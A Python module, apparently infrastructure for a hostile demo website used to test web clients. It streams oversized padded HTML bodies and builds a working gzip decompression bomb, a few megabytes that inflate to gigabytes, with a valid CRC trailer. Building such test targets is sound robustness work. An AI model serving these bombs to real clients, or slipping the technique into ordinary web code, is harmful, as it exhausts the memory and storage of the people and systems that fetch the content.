"""Bodies too big to hold in memory, for the hostile demo site: generated chunk by chunk while they
are sent, or (the gzip bomb) compressed once into a few MB that inflate to gigabytes."""
from __future__ import annotations

import struct
import threading
import zlib
from collections.abc import Iterator

CHUNK = 64 * 1024
MIB = 1024 * 1024


def padded(head: bytes, size: int, tail: bytes, unit: bytes = b"<p>&nbsp;</p>\n") -> Iterator[bytes]:
    """Exactly `size` bytes: `head`, filler made of `unit`, `tail` — one reused chunk, never the whole."""
    filler = unit * (CHUNK // len(unit)) or unit
    rest = size - len(head) - len(tail)
    if rest < 0:
        raise ValueError("size is smaller than head and tail")
    yield head
    while rest >= len(filler):
        yield filler
        rest -= len(filler)
    if rest:
        yield filler[:rest]
    yield tail


_bombs: dict[tuple[bytes, int, bytes], bytes] = {}
_bombs_lock = threading.Lock()


def gzip_bomb(head: bytes, mib_of_spaces: int, tail: bytes) -> bytes:
    """A gzip stream (one member) of `head`, `mib_of_spaces` MiB of spaces and `tail`, ~1 KB per MiB.

    Built once per process, without compressing gigabytes: after a full flush deflate starts afresh,
    so every MiB of spaces compresses to the same bytes, which are repeated; the trailer's CRC-32 and
    size are then computed for the whole (the CRC pass over the spaces takes ~0.4 s per GiB).
    """
    key = (head, mib_of_spaces, tail)
    with _bombs_lock:
        if key not in _bombs:
            _bombs[key] = _build_bomb(head, mib_of_spaces, tail)
        return _bombs[key]


def _build_bomb(head: bytes, mib_of_spaces: int, tail: bytes) -> bytes:
    spaces = b" " * MIB
    z = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)  # 16+: a gzip header and trailer
    start = z.compress(head) + z.flush(zlib.Z_FULL_FLUSH)
    block = z.compress(spaces) + z.flush(zlib.Z_FULL_FLUSH)
    if z.compress(spaces) + z.flush(zlib.Z_FULL_FLUSH) != block:
        raise RuntimeError("zlib does not repeat a fully flushed block: cannot build the bomb this way")
    end = z.compress(tail) + z.flush(zlib.Z_FINISH)
    crc = zlib.crc32(head)
    for _ in range(mib_of_spaces):
        crc = zlib.crc32(spaces, crc)
    crc = zlib.crc32(tail, crc)
    size = len(head) + mib_of_spaces * MIB + len(tail)
    # The compressor saw two blocks of spaces; the trailer must describe all of them.
    return start + block * mib_of_spaces + end[:-8] + struct.pack("<II", crc, size & 0xFFFFFFFF)
